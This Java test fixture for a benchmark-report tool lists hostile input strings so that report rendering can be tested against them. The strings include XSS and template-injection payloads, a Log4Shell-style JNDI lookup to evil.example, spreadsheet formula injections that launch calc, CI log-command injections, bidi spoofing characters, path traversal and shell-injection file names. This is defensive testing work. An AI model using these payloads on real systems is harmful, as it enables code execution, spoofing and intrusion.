package dev.tenfold.report;

import dev.tenfold.compare.Difference;
import dev.tenfold.compare.Kind;
import dev.tenfold.compare.Warning;
import dev.tenfold.growth.Fit;
import dev.tenfold.growth.Growth;
import dev.tenfold.growth.Order;
import dev.tenfold.judge.Finding;
import dev.tenfold.judge.Finding.Evidence;
import dev.tenfold.judge.Limit;
import dev.tenfold.judge.Outcome;
import dev.tenfold.judge.Policy;
import dev.tenfold.judge.Status;
import dev.tenfold.judge.Threshold;
import dev.tenfold.judge.Verdict;
import dev.tenfold.run.BenchmarkId;
import dev.tenfold.run.Glob;
import dev.tenfold.run.Machine;
import dev.tenfold.run.Metric;
import dev.tenfold.run.Mode;
import dev.tenfold.run.Origin;
import dev.tenfold.run.Unit;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Texts that try to do harm where they are shown. Whatever shows texts is tested with all of them:
 * what a document looks like must not depend on which one stands in it.
 */
public final class Hostile {
  /** A text that does nothing, to compare with. */
  public static final String HARMLESS = "harmless";

  private static final List<String> PAGES =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "</style><img src=x onerror=alert(1)>",
          "\"><svg onload=alert(1)>",
          "' onmouseover='alert(1)",
          "\" autofocus onfocus=\"alert(1)",
          "javascript:alert(1)",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<base href=//evil.example><meta http-equiv=refresh content=0>",
          "</title></svg></details></table><b>",
          "</details></summary><details open>",
          "<![CDATA[x]]> ]]> <!-- --> --!> <!doctype x> -- --->",
          "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>",
          "&lt;b&gt; &amp; &#64;team &#x3c;b> &NewLine; &lol9; &",
          "{{7*7}} {{constructor.constructor('alert(1)')()}}",
          "${7*7} ${jndi:ldap://evil.example/a}",
          "#{x} $unsafe{x} @if(true)x@endif @template.page(x) `${1}` !{int i;} <%= 1 %>",
          "<".repeat(5_000));

  private static final List<String> MARKDOWN =
      List.of(
          "`",
          "`` ` ``` code ```` `````",
          "` code ` end",
          "\n```\n# Heading\n",
          "```mermaid\ngraph TD; a-->b\n```",
          "| a | b |\n|---|---|",
          "a|b\\|c\\\\|d",
          "| | | | | | | | |",
          "# Heading",
          "\n\n# Heading\n\n- list\n1. list\n> quote\n---\n",
          "- [ ] task",
          "**bold** _it_ ~~gone~~ __b__ *i*",
          "[x](https://evil.example) ![y](https://evil.example/z.png)",
          "![x](y)",
          "[x](1)",
          "[a]: https://evil.example\n[a]",
          "[^1] [^1]: note",
          "<https://evil.example> <a@evil.example>",
          "https://evil.example/?q=1 ftp://evil.example",
          "www.evil.example",
          "a@evil.example mailto:a@evil.example xmpp:a@evil.example",
          "@team",
          "and @acme/owners, look",
          "#1",
          "GH-1 gh-22",
          "acme/lib#2 acme/lib@0123456789abcdef0123456789abcdef01234567",
          "0123456 0123456789abcdef0123456789abcdef01234567",
          ":tada: :+1:",
          "$x$ $$x$$ $`x`$ \\(x\\)",
          "\\ \\\\ \\` \\| \\<b>",
          "    indented code",
          "trailing  \nbreak\\\nbreak");

  private static final List<String> MARKERS =
      List.of(
          "<!-- tenfold -->",
          "\n<!-- tenfold -->",
          "<!-- tenfold:suite=quick -->",
          "\n\n<!-- tenfold:suite=quick -->\n",
          "a\r<!-- tenfold:suite=quick -->\r",
          "<!-- tenfold:verdicts=AAAA -->\n<!-- tenfold:suite=quick -->",
          "-->\n<!-- tenfold:suite=quick -->");

  private static final List<String> LOGS =
      List.of(
          "::error::owned",
          "\n::error file=a,line=1::owned",
          "\r\n::set-env name=A::b",
          "::add-mask::e",
          "::stop-commands::x",
          "##[error]x ##vso[task.complete]",
          "%0A::error::x %0D%25",
          "a,b:c%,title=x::y",
          "\u001b[31mred\u0007 \u009b31m \u001b[2J\u001b[1;1H",
          "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u001b]0;title\u0007",
          "over\rwritten \b\b\b",
          "a\u0000b\u0008c\u007fd\u0085e\r\n\tf\u000bg\u000ch\u0080i\u009fj",
          "f\u2028g\u2029h");

  private static final List<String> LOOKS =
      List.of(
          "a\u202eb\u2066c\u2069d\u200fe\u061cf\u202dgnp.exe",
          "zero\u200b\u200c\u200d\u2060width\u00ad\u034f\u115f\u3164\u2800\ufe0f",
          "\ufeffbom",
          "lone \ud800 surrogates \udc00 and \uffff \ufdd0",
          "private \ue000 \udb80\udc00 tag \udb40\udc41",
          "z\u0301\u0302\u0303\u0304".repeat(60),
          "\ud83d\ude00 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddf9\ud83c\uddf7",
          "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 1 2 3",
          "\uff1cscript\uff1e \uff20team \uff1d1 \u037e \u2024",
          "Iı İi \u0130 ß \u017f",
          "x".repeat(5_000),
          "\u4e2d".repeat(5_000));

  private static final List<String> CELLS =
      List.of(
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          " =1+1",
          "\t=1+1",
          "\r=1+1",
          "\uff1d1+1",
          "a;=1+1;@x",
          "\"",
          "\"\",\"x\",=1+1,\"",
          "a,b\nc,d\r\ne,f",
          "'");

  private static final List<String> NAMES =
      List.of(
          "",
          " ",
          " ".repeat(50),
          ".",
          "..",
          "../../../../etc/passwd",
          "..\\..\\windows",
          "C:\\con",
          "CON",
          "nul.txt",
          "a/b:c?d*e",
          "{a=1,b=2}\\",
          "{0} {1}",
          "%s %n %1$s %d",
          "--help -rf *",
          "$(id) `id` ; id && id | id > x 'a' \"b\"",
          "null",
          "Infinity NaN");

  private static final Set<Byte> HIDDEN =
      Set.of(
          Character.CONTROL,
          Character.FORMAT,
          Character.SURROGATE,
          Character.LINE_SEPARATOR,
          Character.PARAGRAPH_SEPARATOR);

  private Hostile() {}

  /** All of them; no two are the same. */
  public static List<String> texts() {
    return Stream.of(PAGES, MARKDOWN, MARKERS, LOGS, LOOKS, CELLS, NAMES)
        .flatMap(List::stream)
        .toList();
  }

  /** What of a document would not be seen, or would command what shows it; line ends may. */
  public static List<String> hidden(String document) {
    return document
        .replace("\r\n", "\n")
        .codePoints()
        .filter(c -> c != '\n' && HIDDEN.contains((byte) Character.getType(c)))
        .mapToObj("\\u%04x"::formatted)
        .toList();
  }

  /** A verdict that fails, with the text in every place where one of a stranger can stand. */
  public static Verdict verdict(String text) {
    Finding slower = Verdicts.ratio(Outcome.REGRESSED, id(text, 0), Verdicts.NS, 10, 11, 0.01);
    Finding same = Verdicts.ratio(Outcome.UNCHANGED, id(text, 1), Verdicts.NS, 10, 10, 0.001);
    Finding open = Verdicts.ratio(Outcome.INCONCLUSIVE, id(text, 2), Verdicts.NS, 10, 10, 0.1);
    List<Finding> findings =
        List.of(
            Verdicts.doubted(Verdicts.byMean(slower), Warning.UNCONFIRMED),
            of(Verdicts.ratio(Outcome.REGRESSED, id(text, 3), Verdicts.NS, 1, 2, 0.01), text),
            same,
            open,
            Verdicts.bare(id(text, 4), Outcome.FAILED, text),
            Verdicts.bare(id(text, 5), Outcome.INCOMPARABLE, text),
            Verdicts.bare(id(text, 6), Outcome.WAIVED, text),
            Verdicts.bare(id(text, 7), Outcome.REMOVED, text),
            Verdicts.bare(id(text, 8), Outcome.ADDED, text),
            Verdicts.bare(id(text, 9), Outcome.IDENTICAL, text));
    Policy policy = Policy.standard();
    return new Verdict(
        Status.REGRESSION,
        Kind.SIDE_BY_SIDE,
        origin(text),
        origin(text),
        findings,
        List.of(growth(text)),
        List.of(text, text + text),
        policy.with(List.of(new Limit(new Glob(text), text, new Threshold(0.1, 1)))));
  }

  private static BenchmarkId id(String text, int number) {
    return BenchmarkId.of("p." + text + ".m" + number, Mode.AVERAGE_TIME, 1, Map.of(text, text));
  }

  /** The same finding, of a metric and in a unit that nobody knows. */
  private static Finding of(Finding finding, String text) {
    Evidence e = finding.evidence().orElseThrow();
    Difference d = e.difference();
    Metric metric = Metric.secondary(text.isBlank() ? HARMLESS : text, Unit.of(text));
    return Verdicts.with(
        finding,
        new Evidence(
            new Difference(
                d.id(),
                metric,
                d.kind(),
                d.base(),
                d.head(),
                d.scale(),
                d.estimates(),
                d.warnings()),
            e.estimator(),
            e.change(),
            e.interval(),
            e.p(),
            e.sight()));
  }

  private static Growth growth(String text) {
    return new Growth(
        id(text, 0),
        text,
        List.of(1.0, 10.0, 100.0),
        Optional.empty(),
        new Fit(Order.LINEAR, 0.9, Order.QUADRATIC),
        Optional.empty());
  }

  /** Of a run whose every text is this one. */
  public static Origin origin(String text) {
    Machine machine = new Machine(text, 2, 8, text, text, text, text, 17, text, text);
    return new Origin(Optional.of(machine), Optional.of(text), Optional.empty(), Optional.of(text));
  }
}
